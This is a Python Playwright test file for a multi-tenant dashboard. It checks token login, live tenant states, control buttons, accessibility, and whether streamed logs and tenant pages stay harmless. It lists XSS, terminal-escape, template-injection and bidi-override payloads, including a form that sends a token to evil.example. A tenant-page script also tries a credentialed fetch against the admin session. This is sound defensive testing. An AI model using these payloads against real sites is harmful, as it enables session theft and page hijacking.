"""The dashboard in a real browser: what people do there, and what hostile tenants try."""

from collections.abc import Callable
from typing import Any

import pytest
from system.conftest import Box
from system.web import TALKER, Token, say, token

LIVE_S = 10.0
HOSTILE = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "</pre></div><form action='http://evil.example/'><input name=token>",
    "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[1;1H\x1b[31mred",
    "{{ 7 * 7 }} ${7*7} data: event: counts",
    "\u202eevil\u2066",
)


def state_of(page: Any, name: str) -> str:
    """The state that a row of the list, or the head of a tenant's page, shows."""
    return str(page.locator(f'[data-tenant="{name}"] [data-state-text]').inner_text())


def test_one_gets_in_with_an_administrators_token_only(
    box: Box, visitor: Any, admin: Token, tenant: Callable[..., str]
) -> None:
    name = tenant()
    box.run(["ten", "spawn", "--no-start", name])
    visitor.goto("/tenants?q=x")
    assert visitor.url.endswith("/login?next=%2Ftenants%3Fq%3Dx")
    with token(box, "--tenant", name) as own:
        for text in ("nonsense", own.text):
            visitor.fill("#token", text)
            visitor.click("button.primary")
            visitor.wait_for_selector("[role=alert]")
    visitor.fill("#token", admin.text)
    visitor.click("button.primary")
    visitor.wait_for_url("**/tenants?q=x")
    (cookie,) = visitor.context.cookies()
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
    assert admin.text not in cookie["value"]
    visitor.click("text=Log out")
    visitor.wait_for_url("**/login")
    visitor.goto("/")
    assert visitor.url.endswith("/login")


def test_a_session_ends_when_its_token_is_revoked(box: Box, visitor: Any) -> None:
    with token(box) as made:
        visitor.goto("/login")
        visitor.fill("#token", made.text)
        visitor.keyboard.press("Enter")
        visitor.wait_for_selector("h1:has-text('Overview')")
    visitor.goto("/tenants")
    assert "/login" in visitor.url


def test_tenants_are_found_by_name_as_one_types(box: Box, page: Any, tenant: Callable[..., str]) -> None:
    names = [tenant() for _ in range(3)]
    box.run(["ten", "spawn", "--no-start", *names])
    page.goto("/tenants")
    page.locator("#q").press_sequentially(names[1].partition(":")[2], delay=5)
    page.wait_for_selector("text=1 tenant")
    assert page.locator("tbody tr").count() == 1
    assert names[1].partition(":")[2] in page.url
    page.click("text=Disabled")
    page.wait_for_selector("text=No tenant matches")
    page.go_back()


def test_the_list_shows_states_as_they_change(box: Box, page: Any, tenant: Callable[..., str]) -> None:
    name = tenant()
    id_ = name.partition(":")[2]
    box.run(["ten", "spawn", "--no-start", name])
    page.goto(f"/tenants?q={id_}")
    page.wait_for_selector("[data-link].on")
    assert box.http(f"{id_}.notes.localhost").status == 200
    box.wait_for(lambda: state_of(page, name) == "running", LIVE_S)
    box.run(["ten", "disable", name])
    box.wait_for(lambda: state_of(page, name) == "disabled", LIVE_S)
    page.goto("/")
    page.wait_for_selector("[data-link].on")
    disabled = int(page.inner_text('[data-count="disabled"]'))
    box.run(["ten", "enable", name])
    box.wait_for(lambda: int(page.inner_text('[data-count="disabled"]')) == disabled - 1, LIVE_S)


def test_buttons_restart_stop_disable_and_set_the_weight(
    box: Box, page: Any, tenant: Callable[..., str]
) -> None:
    name = tenant()
    box.run(["ten", "spawn", name])
    page.goto(f"/tenants/{name}")
    before = page.locator("dt:text-is('Main process') + dd").inner_text()
    page.click("text=Restart")
    page.wait_for_selector("text=Restarted.")
    assert page.locator("dt:text-is('Main process') + dd").inner_text() != before
    page.fill("#weight", "7")
    page.click("text=Set")
    page.wait_for_selector("text=The weight is set.")
    assert page.input_value("#weight") == "7"
    page.click("button:text-is('Stop')")
    page.click("dialog >> text=Cancel")
    assert state_of(page, name) == "running"
    page.click("button:text-is('Stop')")
    page.click("dialog >> button:text-is('Stop')")
    page.wait_for_selector("text=Put to sleep")
    page.click("button:text-is('Disable')")
    page.keyboard.press("Escape")
    page.click("button:text-is('Disable')")
    page.click("dialog >> button:text-is('Disable')")
    page.wait_for_selector("text=Disabled.")
    page.click("button:text-is('Enable')")
    page.wait_for_selector("text=Enabled.")


def test_log_lines_come_live_and_never_become_html(box: Box, page: Any, tenant: Callable[..., str]) -> None:
    box.write_config("talker", TALKER)
    name = tenant("talker")
    box.run(["ten", "spawn", name])
    page.goto(f"/tenants/{name}")
    page.wait_for_selector("[data-link].on")
    elements = page.evaluate("document.querySelectorAll('script, img, form, a, iframe').length")
    for line in HOSTILE:
        say(box, name, line)
    say(box, name, "the end")
    log = page.locator("[data-log]")
    log.get_by_text("the end").wait_for()
    text = log.inner_text()
    assert HOSTILE[0] in text and HOSTILE[1] in text
    assert "\x1b" not in text and "\u202e" not in text
    assert page.evaluate("document.querySelectorAll('script, img, form, a, iframe').length") == elements
    assert page.title() == f"{name} · tenement"
    page.fill("[data-log-filter]", "the end")
    assert log.locator("div:visible").count() == 1


def test_a_page_of_a_tenant_cannot_use_the_session(
    box: Box, page: Any, admin: Token, tenant: Callable[..., str]
) -> None:
    """A tenant's page is of the same site; its script tries what a form and a fetch can."""
    name = tenant()
    box.run(["ten", "spawn", name])
    other = page.context.new_page()
    other.goto(f"http://{name.partition(':')[2]}.notes.localhost/")
    tried = other.evaluate(
        """async (name) => {
            const results = [];
            for (const path of ["/", `/tenants/${name}/disable`]) {
                try {
                    const answer = await fetch("http://localhost" + path, {
                        method: path === "/" ? "GET" : "POST", credentials: "include", body: undefined,
                    });
                    results.push(await answer.text());
                } catch (error) { results.push("refused"); }
            }
            return results;
        }""",
        name,
    )
    assert tried == ["refused", "refused"]
    other.close()
    page.goto(f"/tenants/{name}")
    assert state_of(page, name) == "running"


PAGES = ("/", "/tenants", "/tenants/{}", "/services", "/certificates", "/events")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing(box: Box, page: Any, tenant: Callable[..., str], scheme: str) -> None:
    from axe_playwright_python.sync_playwright import Axe

    name = tenant()
    box.run(["ten", "spawn", name])
    page.emulate_media(color_scheme=scheme)
    for path in ("/login", *PAGES):
        page.goto(path.format(name))
        violations = Axe().run(page).response["violations"]
        assert [(each["id"], each["nodes"][0]["html"]) for each in violations] == [], path


def test_pages_fit_a_phone_and_work_by_keyboard(box: Box, page: Any, tenant: Callable[..., str]) -> None:
    name = tenant()
    box.run(["ten", "spawn", name])
    page.set_viewport_size({"width": 360, "height": 740})
    for path in PAGES:
        page.goto(path.format(name))
        width = page.evaluate("document.documentElement.scrollWidth")
        assert width <= 360, (path, width)
    page.goto(f"/tenants?q={name}")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.className") == "skip"
    page.locator(f'a:text-is("{name}")').focus()
    page.keyboard.press("Enter")
    page.wait_for_selector(f"h1:text-is('{name}')")
